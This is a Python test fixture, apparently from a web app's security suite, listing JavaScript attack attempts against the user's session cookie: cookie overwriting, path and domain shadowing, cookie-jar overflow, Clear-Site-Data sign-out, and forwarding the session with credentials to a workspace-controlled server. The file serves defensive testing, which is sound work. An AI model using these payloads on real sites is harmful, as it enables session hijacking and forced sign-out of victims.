"""Cookies and headers that interfere with the user's session on the main origin."""

from tests.attacks.attempts.attempt import Attempt, Control, Goal

OUT, MALLORY = Goal.SIGN_OUT, Goal.SIGN_IN_MALLORY

COOKIES = [
    Attempt(
        "session overwritten by script",
        MALLORY,
        "document.cookie = `${t.cookie}=${t.mallorySession}; path=/`; return document.cookie;",
        Control.NAIVE,
    ),
    Attempt(
        "session shadowed by a cookie with a longer path",
        MALLORY,
        "document.cookie = `${t.cookie}=${t.mallorySession}; path=/api/v1/session`",
        Control.NAIVE,
    ),
    Attempt(
        "session made ambiguous by a second one",
        OUT,
        "document.cookie = `${t.cookie}=${t.mallorySession}; path=/api`",
        Control.NAIVE,
    ),
    Attempt(
        "session shadowed for the whole domain",
        MALLORY,
        """
        const host = new URL(t.main).hostname;
        for (const domain of [host, host.split('.').slice(-1)[0]])
          for (const path of ['/', '/api/v1/session'])
            document.cookie = `${t.cookie}=${t.mallorySession}; path=${path}; domain=${domain}`;
        """,
        Control.NAIVE,
    ),
    Attempt(
        "session evicted by an overflow of the jar",
        OUT,
        "for (let i = 0; i < 400; i++) document.cookie = `filler-${i}=x; path=/`",
    ),
    Attempt(
        "cookies that are too large for the dashboard",
        OUT,
        "for (let i = 0; i < 40; i++) document.cookie = `filler-${i}=${'x'.repeat(3900)}; path=/`",
        Control.NAIVE,
    ),
    Attempt(
        "session overwritten by the workspace's server",
        MALLORY,
        "await fetch(t.own + 'set-cookie')",
        Control.NAIVE,
    ),
    Attempt(
        "cookies deleted by Clear-Site-Data",
        OUT,
        "await fetch(t.own + 'clear-site-data')",
        Control.NAIVE,
    ),
    Attempt(
        "session forwarded to the workspace's server",
        Goal.LEAK,
        """
        await fetch(t.own + t.marker, {credentials: 'include'});
        await framed(t.own + t.marker);
        await socket(t.own + t.marker);
        """,
        Control.NAIVE,
    ),
]
